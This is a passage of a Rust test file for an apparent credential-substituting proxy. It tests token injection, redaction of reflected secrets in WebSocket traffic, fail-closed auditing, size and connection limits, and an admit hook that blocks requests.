        rules,
    )
    .await;
    assert_eq!(f.placeholder.split('.').count(), 3, "{}", f.placeholder);
    let bearer = f.bearer();
    curl_ok(f.curl_args(&["-H", &bearer, &f.url("api.test", "/jwt")])).await;
    assert_eq!(
        f.upstream.seen()[0].header("authorization"),
        Some(format!("Bearer {CANARY}").as_str())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_websocket_handshake_takes_the_value_and_reflected_frames_are_redacted() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let mut tls = tunnel_tls(&f, "api.test", &[b"http/1.1"]).await.unwrap();
    let head = format!(
        "GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
         Sec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer {}\r\n\r\n",
        f.placeholder
    );
    tls.write_all(head.as_bytes()).await.unwrap();
    // Send one masked text frame with the placeholder, then read to the end.
    let payload = format!("hi {}", f.placeholder);
    let mask = [7u8, 1, 2, 3];
    let mut frame = vec![0x81, 0x80 | payload.len() as u8];
    frame.extend_from_slice(&mask);
    frame.extend(payload.bytes().enumerate().map(|(i, b)| b ^ mask[i % 4]));
    tls.write_all(&frame).await.unwrap();
    let mut got = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), tls.read_to_end(&mut got)).await;
    let text = String::from_utf8_lossy(&got);
    assert!(text.starts_with("HTTP/1.1 101"), "{text}");
    assert!(
        text.contains("auth: Bearer [REDACTED"),
        "the reflected value is redacted: {text}"
    );
    assert!(
        text.contains(&format!("echo: hi {}", f.placeholder)),
        "messages pass as they are: {text}"
    );
    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {CANARY}").as_str())
    );
    assert!(
        seen[0].header("sec-websocket-extensions").is_none(),
        "no compression is offered"
    );
    let records: Vec<_> = f
        .audit
        .events()
        .into_iter()
        .filter(|e| e.outcome.as_deref() == Some("upgraded"))
        .collect();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].http.as_ref().unwrap().status, Some(101));
    f.assert_no_canary("websocket stream", &text);
    f.assert_no_canary("audit", &f.audit_text());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn when_the_audit_log_fails_the_proxy_fails_closed() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let bearer = f.bearer();
    f.audit.fail_from_now_on();
    // The request in flight: its answer is cut short, never completed.
    let (code, out, _) = curl(f.curl_args(&["-H", &bearer, &f.url("api.test", "/first")])).await;
    assert_ne!(code, 0, "the answer must not arrive whole: {out}");
    // Every later request that would use the value is refused before anything is sent.
    let before = f.upstream.seen().len();
    let (code, out, err) = curl(f.curl_args(&["-H", &bearer, &f.url("api.test", "/second")])).await;
    assert_eq!(code, 0, "{err}");
    let (text, status) = split_status(&out);
    assert_eq!(status, "503", "{out}");
    assert!(text.contains("the audit log cannot be written"), "{text}");
    assert_eq!(f.upstream.seen().len(), before, "nothing more was sent");
    // Requests without a value still pass.
    curl_ok(f.curl_args(&[&f.url("api.test", "/plain")])).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_request_head_is_refused() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    // hyper checks the limit between reads, so a head a little over it may pass.
    let big = "a".repeat(4 * broker_proxy::server::MAX_HEAD);
    let status = raw(
        f.proxy.addr(),
        &format!(
            "GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nX-Big: {big}\r\n{}\r\n\r\n",
            f.auth()
        ),
    )
    .await;
    assert!(status.starts_with("HTTP/1.1 431"), "{status}");
    f.assert_upstream_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_beyond_the_cap_are_closed_and_the_rest_still_served() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let mut held = Vec::new();
    for _ in 0..broker_proxy::server::MAX_CONNECTIONS {
        held.push(
            tokio::net::TcpStream::connect(f.proxy.addr())
                .await
                .unwrap(),
        );
    }
    // One more: accepted by the kernel, closed by the proxy without an answer.
    let mut extra = tokio::net::TcpStream::connect(f.proxy.addr())
        .await
        .unwrap();
    let _ = extra
        .write_all(format!("GET http://api.test/ HTTP/1.1\r\n{}\r\n\r\n", f.auth()).as_bytes())
        .await;
    let mut buf = [0u8; 64];
    let n = tokio::time::timeout(Duration::from_secs(20), extra.read(&mut buf))
        .await
        .unwrap()
        .unwrap_or(0);
    assert_eq!(n, 0, "{}", String::from_utf8_lossy(&buf[..n]));
    // Freeing one lets the next in.
    drop(held.pop());
    tokio::time::sleep(Duration::from_millis(200)).await;
    let bearer = f.bearer();
    curl_ok(f.curl_args(&["-H", &bearer, &f.url("api.test", "/after")])).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_of_the_admit_hook_stops_requests_that_would_use_a_value() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let bearer = f.bearer();
    f.allowed.store(false, std::sync::atomic::Ordering::SeqCst);
    let (code, out, err) =
        curl(f.curl_args(&["-H", &bearer, &f.url("api.test", "/blocked")])).await;
    assert_eq!(code, 0, "{err}");
    let (text, status) = split_status(&out);
    assert_eq!(status, "403", "{out}");
    assert!(
        text.contains("blocked: agent `agent-a` is blocked"),
        "{text}"
    );
    assert!(f.upstream.seen().is_empty(), "nothing was sent");
    // Without a value the request is no business of the hook.
    curl_ok(f.curl_args(&[&f.url("api.test", "/plain")])).await;
    f.allowed.store(true, std::sync::atomic::Ordering::SeqCst);
    curl_ok(f.curl_args(&["-H", &bearer, &f.url("api.test", "/again")])).await;
}
